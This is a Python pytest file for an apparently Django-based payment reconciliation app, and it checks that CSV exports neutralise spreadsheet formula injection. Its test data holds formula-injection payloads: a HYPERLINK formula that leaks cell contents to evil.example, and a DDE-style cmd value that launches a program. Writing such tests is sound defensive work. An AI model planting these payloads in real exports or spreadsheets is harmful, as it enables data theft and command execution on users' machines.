"""CSV exports neutralise text a spreadsheet would run as a formula; amounts stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone

from reconciliation.admin import csv_safe_cell
from reconciliation.models import Break
from reconciliation.selectors import EXPORT_COLUMNS
from reconciliation.services import reconciliation_run, settlement_file_import

from .helpers import order, row, stripe_report

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(("cell", "expected"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("pi_123", "pi_123"), ("", ""), ("a=b", "a=b"),
    (-300, -300), (None, None), (7, 7),  # numbers are numbers
])
def test_csv_safe_cell(cell, expected):
    assert csv_safe_cell(cell) == expected


def _rows(response):
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def admin(client):
    client.force_login(get_user_model().objects.create_superuser("alice", "alice@example.com", "pw-alice-123"))
    return client


@pytest.fixture
def run_with_breaks(tmp_path):
    now = timezone.now()
    order(amount=2000, psp_reference="pi_amount", completed_at=now - timedelta(hours=1))
    settlement_file_import(path=stripe_report(tmp_path / "day.csv", [
        row("charge", gross=1900, fee=85, pi="pi_amount", created=now - timedelta(hours=1)),
        row("charge", gross=100, fee=33, pi="pi_nobody", created=now - timedelta(hours=1)),
    ]), actor="test")
    return reconciliation_run(day=now.date(), actor="test")


@pytest.fixture
def hostile_break(run_with_breaks):
    brk = Break.objects.get(break_class="amount_mismatch")
    Break.objects.filter(pk=brk.pk).update(description=HYPERLINK, psp_reference="@SUM(1+1)*cmd|' /C calc'!A0",
                                           reason="-2+3", resolved_by="+operator", expected_amount=-300)
    return brk


@pytest.mark.parametrize("export", ["break", "run"])
def test_a_break_starting_with_a_formula_is_exported_neutralised(admin, run_with_breaks, hostile_break, export):
    if export == "break":
        response = admin.post(reverse("admin:reconciliation_break_changelist"),
                              {"action": "export_csv", "_selected_action": [hostile_break.pk]})
    else:
        response = admin.post(reverse("admin:reconciliation_reconciliationrun_changelist"),
                              {"action": "export_breaks", "_selected_action": [run_with_breaks.pk]})
    rows = _rows(response)
    header = list(EXPORT_COLUMNS)  # the selector's columns, each amount's format_money text after its currency
    for name in ("actual", "expected"):
        header.insert(header.index(f"{name}_currency") + 1, f"{name}_formatted")
    assert list(rows[0]) == header
    row = next(r for r in rows if r["id"] == str(hostile_break.pk))
    assert row["description"] == "'" + HYPERLINK
    assert row["psp_reference"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (row["reason"], row["resolved_by"]) == ("'-2+3", "'+operator")
    assert row["expected_amount"] == "-300"  # an amount: a number, not neutralised
    assert row["expected_formatted"].startswith("'-")  # its text: neutralised like any text cell
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values()
                   if not (value.lstrip("-").isdigit()))
